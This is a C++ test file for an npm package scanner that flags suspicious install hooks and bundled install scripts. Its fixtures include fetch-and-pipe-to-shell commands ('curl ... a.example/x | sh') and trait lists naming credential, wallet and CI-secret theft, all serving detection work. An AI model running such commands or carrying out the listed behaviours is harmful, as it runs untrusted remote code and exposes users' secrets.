// What hooks do, and hooks of bundled packages.
#include <gtest/gtest.h>

#include "tests/inspect/findings/package_builder.h"

namespace npmgate {
namespace {

using testing::before;
using testing::describe;
using testing::Package;
using testing::package;
using testing::proof_of;
using testing::Scene;
using testing::with_traits;
using Ids = std::set<std::string>;

// --- suspicious hooks ---

struct SuspiciousRow {
  const char* name;
  std::optional<Package> was;
  Package now;
  std::vector<std::string> features;
};
class Suspicious : public ::testing::TestWithParam<SuspiciousRow> {};

TEST_P(Suspicious, NamesWhatItSaw) {
  Scene scene(GetParam().now);
  scene.before = GetParam().was;
  std::vector<std::string> features;
  for (const Finding& finding : scene.of("install-script-suspicious")) {
    for (const auto& feature : finding.proof.at("features").as_array()) {
      features.emplace_back(feature.at("feature").as_string());
    }
  }
  EXPECT_EQ(features, GetParam().features) << describe(scene.findings());
}

Package running(Package base, const char* hook, std::vector<std::string> file_traits,
                std::vector<std::string> text_traits = {}, const char* content = "1") {
  return base.script(hook, "node run.js")
      .code("run.js", content, with_traits(std::move(file_traits)))
      .reach(hook, "node run.js", {"run.js"}, std::move(text_traits));
}

CodeFeatures obfuscated_code() {
  CodeFeatures features;
  features.obfuscator_names = 400;
  return features;
}

INSTANTIATE_TEST_SUITE_P(
    All, Suspicious,
    ::testing::Values(
        SuspiciousRow{"harmless_file", before(), running(package(), "install", {}), {}},
        SuspiciousRow{"file_fetches",
                      before(),
                      running(package(), "install", {"network-fetch"}),
                      {"network-fetch"}},
        SuspiciousRow{"text_and_file",
                      before(),
                      running(package(), "install", {"credential-paths"}, {"shell"}),
                      {"shell", "credential-paths"}},
        SuspiciousRow{"plain_eval_is_not", before(), running(package(), "install", {"eval"}), {}},
        SuspiciousRow{"all_of_them",
                      before(),
                      running(package(), "postinstall",
                              {"ci-secrets", "decoded-eval", "destructive", "env-bulk",
                               "hidden-text", "network-fetch", "npm-publish", "persistence",
                               "shell", "string-array", "wallet", "workflow-write"}),
                      {"network-fetch", "shell", "decoded-eval", "env-bulk", "ci-secrets",
                       "string-array", "wallet", "persistence", "destructive", "workflow-write",
                       "npm-publish", "hidden-text"}},
        SuspiciousRow{"as_before",
                      running(before(), "install", {"network-fetch"}),
                      running(package(), "install", {"network-fetch"}, {}, "2"),
                      {}},
        SuspiciousRow{"gained_one",
                      running(before(), "install", {"network-fetch"}),
                      running(package(), "install", {"env-bulk", "network-fetch"}, {}, "2"),
                      {"env-bulk"}},
        SuspiciousRow{"moved_as_it_was",
                      running(before(), "install", {"network-fetch"}),
                      running(package(), "postinstall", {"network-fetch"}),
                      {}},
        SuspiciousRow{"from_prepare",
                      running(before(), "prepare", {"network-fetch"}),
                      running(package(), "postinstall", {"network-fetch"}),
                      {"network-fetch"}},
        SuspiciousRow{
            "first_release", std::nullopt, running(package(), "install", {"shell"}), {"shell"}},
        SuspiciousRow{
            "prepare_is_not_asked", before(), running(package(), "prepare", {"shell"}), {}},
        SuspiciousRow{"runs_native_code",
                      before(),
                      package()
                          .script("preinstall", "./tools/setup")
                          .file("tools/setup", "elf", FileKind::kNative)
                          .reach("preinstall", "./tools/setup", {"tools/setup"}),
                      {"native-executable"}},
        SuspiciousRow{"runs_obfuscated_code",
                      before(),
                      package()
                          .script("preinstall", "node a.js")
                          .code("a.js", "1", obfuscated_code())
                          .reach("preinstall", "node a.js", {"a.js"}),
                      {"string-array"}},
        SuspiciousRow{
            "implicit_build",
            before(),
            package()
                .binding_gyp()
                .code("index.js", "1", with_traits({"network-fetch"}))
                .reach("node-gyp", "node-gyp rebuild", {"binding.gyp", "index.js"}, {"shell"}),
            {"network-fetch", "shell"}},
        SuspiciousRow{"banner",
                      before(),
                      package()
                          .script("postinstall", "node -e \"console.log('x')\"")
                          .reach("postinstall", "node -e \"console.log('x')\"", {}, {"shell"}),
                      {}}),
    kRowName);

TEST(InstallScriptSuspicious, SaysWhereItSawIt) {
  const auto findings =
      Scene(before(), running(package(), "install", {"credential-paths"}, {"shell"}))
          .of("install-script-suspicious");
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].message,
            "install spawns a shell (hook text), reads credential files (run.js)");
  EXPECT_EQ(findings[0].proof.at("features").at(1).at("where"), boost::json::array({"run.js"}));
}

TEST(InstallScriptSuspicious, AnUnchangedHookNeedsTheBaselinesTree) {
  Scene scene(running(before(), "install", {"network-fetch"}),
              running(package(), "install", {"network-fetch"}));
  scene.baseline_inspected = false;
  EXPECT_TRUE(scene.of("install-script-suspicious").empty());
  EXPECT_TRUE(scene.ids().contains("evidence-unavailable"));
}

TEST(InstallScriptSuspicious, MetadataAloneShowsTheCommandsOwnTraits) {
  Scene scene(before(), package().script("postinstall", "curl https://a.example/x | sh"));
  scene.inspected = false;
  EXPECT_TRUE(scene.ids().contains("install-script-suspicious")) << describe(scene.findings());
}

// --- bundled packages ---

Package bundling(Package base, StringMap scripts, const char* path = "node_modules/inner") {
  base.release.manifest.bundled = {"inner"};
  return base.bundles(path, std::move(scripts));
}

struct BundledRow {
  const char* name;
  Package was, now;
  std::size_t count;
};
class Bundled : public ::testing::TestWithParam<BundledRow> {};

TEST_P(Bundled, HooksCountWhereTheyAreNew) {
  const Scene scene(GetParam().was, GetParam().now);
  EXPECT_EQ(scene.of("bundled-install-script-added").size(), GetParam().count)
      << describe(scene.findings());
}

INSTANTIATE_TEST_SUITE_P(
    All, Bundled,
    ::testing::Values(
        BundledRow{"new", before(), bundling(package(), {{"install", "node a.js"}}), 1},
        BundledRow{"two", before(), bundling(package(), {{"install", "a"}, {"postinstall", "b"}}),
                   2},
        BundledRow{"as_before", bundling(before(), {{"install", "a"}}),
                   bundling(package(), {{"install", "a"}}), 0},
        BundledRow{"moved_folder", bundling(before(), {{"install", "a"}}),
                   bundling(package(), {{"install", "a"}}, "node_modules/x/node_modules/inner"), 0},
        BundledRow{"changed", bundling(before(), {{"install", "a"}}),
                   bundling(package(), {{"install", "b"}}), 1},
        BundledRow{"scoped", before(),
                   bundling(package(), {{"install", "a"}}, "node_modules/@s/inner"), 1},
        BundledRow{"test_folder_inside", before(),
                   bundling(package(), {{"install", "a"}}, "node_modules/inner/test/fixture"), 0},
        BundledRow{"prepare", before(), bundling(package(), {{"prepare", "a"}}), 0}),
    kRowName);

// `npm rebuild` runs them.
TEST(BundledInstallScript, UndeclaredOnesAreLesserAndMayHold) {
  const auto declared =
      Scene(before(), bundling(package(), {{"install", "a"}})).of("bundled-install-script-added");
  ASSERT_EQ(declared.size(), 1u);
  EXPECT_TRUE(may_hold(declared[0]));
  const auto stray = Scene(before(), package().bundles("node_modules/inner", {{"install", "a"}}))
                         .of("bundled-install-script-added");
  ASSERT_EQ(stray.size(), 1u);
  EXPECT_TRUE(may_hold(stray[0])) << proof_of(stray[0]);
  EXPECT_LT(stray[0].severity, declared[0].severity);
}

TEST(BundledInstallScript, ImplicitBuildsAndRefusedManifestsCount) {
  Package now = bundling(package(), {});
  now.evidence.tree.bundled[0].has_binding_gyp = true;
  EXPECT_EQ(Scene(before(), now).of("bundled-install-script-added").size(), 1u);
  now.evidence.tree.bundled[0].refusal = JsonRefusal{"duplicate-key", "scripts"};
  const auto findings = Scene(before(), now).of("bundled-install-script-added");
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].proof.at("command").as_string(), "refused: duplicate-key");
}

TEST(BundledInstallScript, AnUnchangedHookThatRunsOtherBytesCounts) {
  const StringMap hooks{{"install", "node ./run && node-gyp rebuild"}};
  const auto with = [&](Package made, std::string_view path, std::string_view content) {
    return bundling(std::move(made), hooks)
        .file("node_modules/inner/" + std::string(path), content);
  };
  for (const char* path : {"run.js", "run/index.js", "Run.JS", "binding.gyp", "common.gypi"}) {
    const auto findings = Scene(with(before(), path, "1"), with(package(), path, "2"))
                              .of("bundled-install-script-added");
    ASSERT_EQ(findings.size(), 1u) << path;
    EXPECT_EQ(findings[0].proof.at("file").as_string(), "node_modules/inner/" + std::string(path));
    EXPECT_TRUE(may_hold(findings[0]));
    EXPECT_EQ(Scene(bundling(before(), hooks), with(package(), path, "2"))
                  .of("bundled-install-script-added")
                  .size(),
              1u);
    EXPECT_TRUE(Scene(with(before(), path, "1"), with(package(), path, "1"))
                    .of("bundled-install-script-added")
                    .empty());
  }
  EXPECT_TRUE(Scene(with(before(), "lib/run.js", "1"), with(package(), "lib/run.js", "2"))
                  .of("bundled-install-script-added")
                  .empty());
}

TEST(InstallScriptSuspicious, AScriptRunByNameIsRead) {
  const Scene scene(
      before(),
      package().script("install", "npm run go").script("go", "curl -s https://a.example/x | sh"));
  const auto findings = scene.of("install-script-suspicious");
  ASSERT_EQ(findings.size(), 1u) << describe(scene.findings());
  EXPECT_EQ(findings[0].message,
            "install fetches from the network (script go), spawns a shell (script go)");
}

}  // namespace
}  // namespace npmgate
